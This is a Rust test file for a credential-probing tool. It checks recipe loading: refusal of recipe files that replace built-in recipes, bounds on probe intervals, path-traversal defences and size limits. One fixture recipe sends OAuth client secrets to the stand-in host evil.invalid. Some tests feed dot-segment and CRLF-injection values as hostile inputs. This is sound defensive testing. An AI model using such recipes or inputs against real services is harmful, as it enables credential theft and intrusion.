//! Recipes of authors whom the operator does not know: they take no name of a built-in recipe, set
//! no pace, and send no request to another path than the one that they show.

use std::path::Path;
use std::time::Duration;

use credwatch::config::{load, load_text};
use credwatch::diagnostic::{Fault, Sentence, Severity};
use credwatch::outcome::Outcome;
use credwatch::probe::Prober;

use super::support::endpoint::Endpoint;
use super::support::provider;

const SHADOW: &str = r#"
title = "OAuth 2.0 client credentials"
parameters = { token_url = { optional = true } }
credentials = ["client_id", "client_secret"]
request.url = "https://evil.invalid/"
request.query.from = "{{ token_url }}"
request.form = { i = "{{ client_id }}", s = "{{ client_secret }}" }
response.token = "json.access_token"
"#;

const PROVIDER: &str = r#"
[providers.p]
recipe = "oauth2-client-credentials"
parameters.token_url = "https://idp.example/token"
credentials = { client_id = "an-id", client_secret = "a-secret" }
"#;

/// The host and port of the provider of a main file beside a recipe file, `None` when they do not
/// load, and all faults.
fn loaded(main: &str, recipe_file: &str) -> (Option<String>, Vec<Fault>) {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::create_dir(folder.path().join("r")).expect("a folder");
    std::fs::write(folder.path().join("r/weather.toml"), recipe_file).expect("written");
    let path = folder.path().join("c.toml");
    std::fs::write(&path, main).expect("written");
    let permissions = std::os::unix::fs::PermissionsExt::from_mode(0o600);
    std::fs::set_permissions(&path, permissions).expect("changed");
    match load(&path).plan {
        Ok(plan) => (plan.providers[0].endpoint.as_deref().map(str::to_owned), plan.warnings),
        Err(faults) => (None, faults),
    }
}

fn messages(faults: &[Fault]) -> Vec<(Severity, String)> {
    let name = |fault: &Fault| {
        let place = fault.place();
        Path::new(&place).file_name().map(|name| name.to_string_lossy().into_owned())
    };
    faults
        .iter()
        .map(|fault| {
            let place = name(fault).unwrap_or_default();
            (fault.severity, format!("{place}: {}", fault.message))
        })
        .collect()
}

#[test]
fn a_recipe_file_cannot_take_the_name_of_a_built_in_recipe_unless_the_operator_allows_it() {
    let recipe = format!("[recipes.oauth2-client-credentials]\n{SHADOW}");
    let by_glob = "recipe_files = [\"r/*.toml\"]\n";
    let (endpoint, faults) = loaded(&format!("{by_glob}{PROVIDER}"), &recipe);
    assert_eq!(endpoint, None);
    let refused = "weather.toml:1:10: the recipe `oauth2-client-credentials` has the name of a \
                   built-in recipe, which a file of `recipe_files` must not replace";
    assert_eq!(messages(&faults), [(Severity::Error, refused.to_owned())]);
    let hint = faults[0].hint.as_ref().map_or("", Sentence::as_str);
    assert!(hint.contains("`replace_builtin = [\"oauth2-client-credentials\"]`"), "{hint}");

    let allowed = "replace_builtin = [\"oauth2-client-credentials\"]\n";
    let (endpoint, warnings) = loaded(&format!("{by_glob}{allowed}{PROVIDER}"), &recipe);
    assert_eq!((endpoint.as_deref(), warnings.len()), (Some("evil.invalid:443"), 0));

    let other_case = format!("[recipes.OAuth2-Client-Credentials]\n{SHADOW}");
    let (endpoint, faults) = loaded(&format!("{by_glob}{PROVIDER}"), &other_case);
    assert_eq!(endpoint, None);
    assert_eq!(
        messages(&faults),
        [(
            Severity::Error,
            "weather.toml:1:10: the recipe `OAuth2-Client-Credentials` differs from the built-in \
             recipe `oauth2-client-credentials` only in upper and lower case"
                .to_owned()
        )]
    );
    let twice =
        format!("{by_glob}{allowed}[recipes.oauth2-client-credentials]\n{SHADOW}{PROVIDER}");
    let (endpoint, faults) = loaded(&twice, &recipe);
    assert_eq!(endpoint, None);
    assert!(faults[0].message.as_str().contains("is defined twice"), "{}", faults[0]);
}

#[test]
fn the_main_file_replaces_a_built_in_recipe_with_a_warning() {
    let main = format!("[recipes.oauth2-client-credentials]\n{SHADOW}{PROVIDER}");
    let (endpoint, warnings) = loaded(&main, "");
    assert_eq!(endpoint.as_deref(), Some("evil.invalid:443"));
    let warning = "c.toml:1:10: this recipe replaces the built-in recipe \
                   `oauth2-client-credentials`: the credentials of its providers go where this \
                   recipe says";
    assert_eq!(messages(&warnings), [(Severity::Warning, warning.to_owned())]);
    let allowed = format!("replace_builtin = [\"oauth2-client-credentials\"]\n{main}");
    assert!(loaded(&allowed, "").1.is_empty());
}

#[test]
fn a_name_in_replace_builtin_that_replaces_nothing_is_a_fault() {
    let list = "replace_builtin = [\"oauth2-client-credential\", \"enos\"]\n";
    let (endpoint, faults) = loaded(&format!("{list}{PROVIDER}"), "");
    assert_eq!(endpoint, None);
    assert_eq!(
        messages(&faults),
        [
            (
                Severity::Error,
                "c.toml:1:20: there is no built-in recipe \"oauth2-client-credential\"".to_owned()
            ),
            (
                Severity::Warning,
                "c.toml:1:48: no recipe of your own replaces the built-in recipe `enos`".to_owned()
            ),
        ]
    );
    let text = "recipe_files = [\"r/*.toml\"]\n";
    let (endpoint, faults) = loaded(text, &format!("{list}[recipes.own]\n{SHADOW}"));
    assert_eq!(endpoint, None);
    assert!(
        faults[0].message.as_str().starts_with("`replace_builtin` does not belong here"),
        "{}",
        faults[0]
    );
}

#[test]
fn a_recipe_makes_the_interval_longer_and_never_shorter() {
    let interval = |recipe: &str, defaults: &str, own: &str| {
        let text = format!(
            "[recipes.r]\n{recipe}\nrequest.url = \"https://h.example\"\n\
             response.token = \"json.t\"\n\
             [defaults]\n{defaults}\n[providers.p]\nrecipe = \"r\"\n{own}\n"
        );
        let plan = load_text("c.toml", &text).map_err(|faults| faults[0].to_string())?;
        Ok::<_, String>(plan.providers[0].cadence.interval)
    };
    for (recipe, defaults, own, seconds) in [
        ("interval = \"100ms\"", "", "", 60),
        ("interval = \"5m\"", "", "", 300),
        ("", "", "", 60),
        ("interval = \"100ms\"", "interval = \"10s\"", "", 10),
        ("interval = \"5m\"", "interval = \"10s\"", "", 300),
        ("interval = \"5m\"", "interval = \"10m\"", "", 600),
        ("interval = \"1s\"", "", "interval = \"20s\"", 20),
        ("interval = \"5m\"", "", "interval = \"20s\"", 20),
    ] {
        let expected = Ok(Duration::from_secs(seconds));
        assert_eq!(interval(recipe, defaults, own), expected, "{recipe} {defaults} {own}");
    }
    let error = interval("interval = \"25h\"", "", "").expect_err("it would stop the probes");
    assert!(error.contains("the `interval` of a recipe is at most `1d`"), "{error}");
}

/// A recipe whose step gives `id`, which stands in the path of the cleanup.
fn session(base: &str, path: &str) -> String {
    format!(
        r#"
[recipes.s]
parameters = {{ base_url = {{}} }}
credentials = ["key"]
[[recipes.s.steps]]
name = "start"
request = {{ method = "POST", url = "{{{{ base_url }}}}/start", headers.X-Key = "{{{{ key }}}}" }}
response.gives = {{ id = "json.id" }}
[recipes.s.request]
url = "{{{{ base_url }}}}/token"
[recipes.s.response]
token = "json.token"
code = "json.error"
message = "json.text"
[[recipes.s.cleanup]]
name = "end"
request = {{ method = "DELETE", url = "{path}" }}
[providers.p]
recipe = "s"
parameters.base_url = "{base}/tenant"
credentials.key = "k3y-canary-1"
"#
    )
}

#[tokio::test]
async fn a_value_of_an_answer_does_not_lead_out_of_the_path_that_the_recipe_wrote() {
    let issued = ("POST /tenant/token", 200, r#"{"token":"token-4711-of-tests"}"#);
    let path = "{{ base_url }}/v1/sessions/{{ id }}";
    for (id, expected) in [
        ("..", None),
        ("%2e%2e", None),
        ("../../admin", None),
        ("..\\\\admin", None),
        (".\\t.", None),
        ("a/../b", None),
        ("7", Some("DELETE /tenant/v1/sessions/7")),
        ("a/b", Some("DELETE /tenant/v1/sessions/a%2Fb")),
        ("//h", Some("DELETE /tenant/v1/sessions/%2F%2Fh")),
        ("a?b#c", Some("DELETE /tenant/v1/sessions/a%3Fb%23c")),
        ("a\\r\\nX: y", Some("DELETE /tenant/v1/sessions/a%0D%0AX%3A%20y")),
        ("\u{fc}", Some("DELETE /tenant/v1/sessions/%C3%BC")),
    ] {
        let body = format!("{{\"id\":\"{id}\"}}");
        let endpoint = Endpoint::routing(&[("POST /tenant/start", 200, &body), issued]);
        let base = format!("http://127.0.0.1:{}", endpoint.port());
        let probe = Prober::new().probe(&provider(&session(&base, path))).await;
        let last = endpoint.routes().pop().filter(|route| route.starts_with("DELETE"));
        assert_eq!(last.as_deref(), expected, "{id}");
        let end = probe.steps.last().expect("the cleanup");
        let message = end.failure.as_ref().map(|failure| failure.message.as_str().to_owned());
        let refused = "no request can be made from what an answer gave: cleanup.end.request.url: \
                       the path has a dot segment, which leads to another path";
        assert_eq!(message.as_deref() == Some(refused), expected.is_none(), "{id}: {message:?}");
    }
    // An empty value would end all sessions.
    let endpoint = Endpoint::routing(&[("POST /tenant/start", 200, r#"{"id":"-"}"#), issued]);
    let base = format!("http://127.0.0.1:{}", endpoint.port());
    let path = "{{ base_url }}/v1/sessions/{{ id | replace('-', '') }}";
    let probe = Prober::new().probe(&provider(&session(&base, path))).await;
    assert_eq!(endpoint.calls(), 2, "{:?}", probe.steps);
}

#[test]
fn a_recipe_whose_own_path_leads_upwards_is_a_load_error() {
    for path in
        ["{{ base_url }}/../admin", "{{ base_url }}/%2E%2e/{{ id }}", "{{ base_url }}/a\\\\..\\\\b"]
    {
        let error = load_text("c.toml", &session("https://h.example", path)).err();
        let error = error.map(|faults| faults[0].to_string()).unwrap_or_default();
        assert!(error.contains("the path has a dot segment"), "{path}: {error}");
    }
}

#[tokio::test]
async fn a_short_address_that_a_step_gives_is_secret_and_only_its_host_is_shown() {
    let short = "/sessions/9f8e7d6c5b4a39";
    let text = r#"{"error":"denied","text":"no token for HERE/sessions/9f8e7d6c5b4a39"}"#;
    let endpoint = Endpoint::routing(&[
        ("POST /tenant/start", 200, r#"{"id":"HERE/sessions/9f8e7d6c5b4a39"}"#),
        ("POST /tenant/token", 403, text),
    ]);
    let base = format!("http://127.0.0.1:{}", endpoint.port());
    let plan =
        load_text("c.toml", &session(&base, "{{ id }}")).unwrap_or_else(|f| panic!("{}", f[0]));
    let probe = Prober::new().probe(&plan.providers[0]).await;
    assert!(endpoint.routes().contains(&format!("DELETE {short}")), "{:?}", endpoint.routes());
    let Outcome::Failed(failure) = &probe.outcome else { panic!("a token was issued") };
    assert_eq!(failure.message.as_str(), "no token for [hidden]");
    assert!(!format!("{probe:?}").contains("9f8e7d6c5b4a39"), "{probe:?}");
}

/// The first fault of a recipe file with this text, without its excerpt. Such a file is small, so
/// the daemon needs little memory for it.
fn first_fault(recipe_file: &str) -> String {
    assert!(recipe_file.len() <= 256 * 1024, "{} bytes", recipe_file.len());
    let (_, faults) = loaded(&format!("recipe_files = [\"r/*.toml\"]\n{PROVIDER}"), recipe_file);
    assert!(faults.len() <= 1_010, "{}", faults.len());
    messages(&faults).into_iter().map(|(_, message)| message).next().unwrap_or_default()
}

#[test]
fn a_recipe_that_is_too_large_is_a_load_error_with_the_limit_and_the_place() {
    let recipe = |more: &str| {
        format!(
            "[recipes.x]\nparameters.a = {{ default = \"A\" }}\nresponse.token = \"json.t\"\n\
             request.url = \"https://h.example/\"\n{more}\n"
        )
    };
    let many = |count: usize, item: &dyn Fn(usize) -> String| {
        (0..count).map(item).collect::<Vec<_>>().join(", ")
    };
    let names = |count| many(count, &|n| format!("\"n{n}\""));
    let expressions = "the recipe has more than 500 expressions and texts";
    let words = "a list of the recipe has more than 200 items: codes, `statuses` or `one_of`";
    let inputs = "these are more than 100 parameters or credentials";
    for (more, place, limit) in [
        (format!("request.body = \"{}\"", "{{a}}".repeat(50_000)), "5:16", expressions),
        (format!("request.body = \"{}\"", "{{a}}".repeat(500)), "5:16", expressions),
        (
            format!("request.form = {{ {} }}", many(10_000, &|n| format!("f{n}=\"{{{{a}}}}\""))),
            "",
            expressions,
        ),
        (
            format!("request.headers = {{ {} }}", many(10_000, &|n| format!("h{n}=\"x\""))),
            "",
            expressions,
        ),
        (format!("request.json = [{}]", many(50_000, &|_| "1".into())), "1:10", expressions),
        (format!("response.code = [{}]", many(20_000, &|_| "\"json.a\"".into())), "", expressions),
        (
            format!("response.gives = {{ {} }}", many(10_000, &|n| format!("g{n}=\"json.a\""))),
            "",
            expressions,
        ),
        (format!("response.issued = \"{}1\"", "1if 1else ".repeat(61)), "5:", "the expression"),
        (format!("response.throttled = [{}]", names(201)), "1:10", words),
        (format!("credentials = [{}]", names(101)), "1:10", inputs),
        (
            format!("title = \"{}\"", "t".repeat(2_001)),
            "1:10",
            "a title or description of the recipe is longer than 2000 bytes",
        ),
        (
            "[[recipes.x.steps]]\nname = \"s\"\nrequest.url = \"https://h.example\"\n".repeat(9),
            "1:10",
            "these are more than 8 calls under `steps`",
        ),
        (
            format!("request.json = {}1{}", "[".repeat(60_000), "]".repeat(60_000)),
            "",
            "cannot recurse",
        ),
        (format!("request.json.{} = 1", vec!["a"; 60_000].join(".")), "", "recursion limit"),
    ] {
        let fault = first_fault(&recipe(&more));
        assert!(fault.starts_with(&format!("weather.toml:{place}")), "{fault}");
        assert!(fault.contains(limit), "{limit}: {fault}");
    }
    let name =
        first_fault(&recipe("").replace("[recipes.x]", &format!("[recipes.{}]", "x".repeat(101))));
    assert!(name.contains("the name of a recipe must be 1 to 100 bytes"), "{name}");
    let name = first_fault(&recipe("").replace("[recipes.x]", "[recipes.\"x\\u001b\"]"));
    assert!(name.contains("the name of a recipe must be 1 to 100 bytes"), "{name}");
    let small = "response.token = \"json.t\"\nrequest.url = \"https://h/\"\n";
    let all = (0..3_000).map(|n| format!("[recipes.r{n}]\n{small}")).collect::<Vec<_>>().concat();
    let fault = first_fault(&all);
    assert!(fault.contains("the recipes have together more than 5000 expressions"), "{fault}");
    let just_within = recipe(&format!("request.body = \"{}\"", "{{a}}".repeat(498)));
    assert!(first_fault(&just_within).is_empty(), "{}", first_fault(&just_within));
}

#[test]
fn files_of_recipes_are_bounded_and_thousands_of_faults_take_no_time() {
    let main = format!("recipe_files = [\"r/*.toml\"]\n{PROVIDER}");
    let (_, faults) = loaded(&main, &"#".repeat(256 * 1024 + 1));
    let text = messages(&faults).remove(0).1;
    assert!(
        text.starts_with("c.toml:1:17") && text.ends_with("it is larger than 256 KiB"),
        "{text}"
    );
    for line in ["k{n} = 1\n", "a = = {n}\n", "[recipes.r.x{n}]\n"] {
        let line = |n: usize| line.replace("{n}", &n.to_string());
        let text = (0..12_000).map(line).collect::<Vec<_>>().concat();
        let (endpoint, faults) = loaded(&main, &text);
        assert!(endpoint.is_none() && (100..=1_001).contains(&faults.len()), "{}", faults.len());
    }
    for text in ["a=1\n".repeat(1_000_001), format!("a=[{}]", "[],".repeat(600_000))] {
        let faults = load_text("c.toml", &text).err().unwrap_or_default();
        let text = faults[0].to_string();
        assert!(text.contains("error: the file has more than 1000000 values"), "{text}");
    }
    let folder = tempfile::tempdir().expect("a folder");
    for number in 0..17 {
        let path = folder.path().join(format!("{number}.toml"));
        std::fs::write(path, "#".repeat(256 * 1024)).expect("written");
    }
    let main = folder.path().join("main");
    std::fs::write(&main, "recipe_files = [\"*.toml\"]\n").expect("written");
    let faults = load(&main).plan.err().unwrap_or_default();
    let text = messages(&faults).remove(0).1;
    assert_eq!(text, "main:1:17: these files are together larger than 4 MiB");
}

#[test]
fn a_url_of_more_than_8_kib_is_a_load_error_wherever_it_is_written() {
    let long = |length: usize| "x".repeat(length);
    let recipe = |url: &str, parameters: &str| {
        format!(
            "[recipes.r]\nparameters = {{ a = {{}}, b_url = {{}} }}\nresponse.token = \"json.t\"\n\
             request.url = \"{url}\"\n[providers.p]\nrecipe = \"r\"\n{parameters}\n"
        )
    };
    let short = "parameters = { a = \"x\", b_url = \"https://h.example\" }";
    let url = "https://h.example/{{ a }}?b={{ b_url }}";
    for (text, message) in [
        (recipe(url, short), ""),
        (recipe(&format!("{url}{}", long(8_000)), short), ""),
        (recipe(&format!("{url}{}", long(70_000)), short), "the URL is longer than 8 KiB"),
        (recipe(url, &short.replace("\"x\"", &format!("{:?}", long(70_000)))), "the URL is longer"),
        (recipe(url, &short.replace(".example", &long(70_000))), "this URL is longer than 8 KiB"),
    ] {
        let fault = load_text("c.toml", &text).err().map(|faults| faults[0].to_string());
        let fault = fault.unwrap_or_default();
        assert!(fault.contains(message) && fault.is_empty() == message.is_empty(), "{fault}");
    }
}
